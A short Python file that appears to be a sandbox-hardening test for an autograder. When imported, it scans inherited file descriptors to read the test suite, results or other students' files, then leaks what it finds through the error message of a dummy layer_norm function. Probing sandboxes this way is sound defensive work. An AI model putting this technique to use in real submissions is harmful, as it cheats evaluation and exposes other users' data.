"""Goal: read the suite, the results or other students' files from descriptors left open.

At most: 0
"""

import os
import select
import stat

LOOT = []
for number in range(256):
    try:
        kind = os.fstat(number).st_mode
        # A file that is open stays readable where its path is not.
        if stat.S_ISDIR(kind):
            LOOT.append(os.listdir(number))
        elif stat.S_ISREG(kind):
            LOOT.append(os.pread(number, 4000, 0))
        elif select.select([number], [], [], 0)[0]:
            LOOT.append(os.read(number, 4000))
    except (OSError, ValueError):
        continue


def layer_norm(x, eps=1e-5):
    if any(LOOT):
        raise ValueError(str([item for item in LOOT if item])[:2000])
    return x
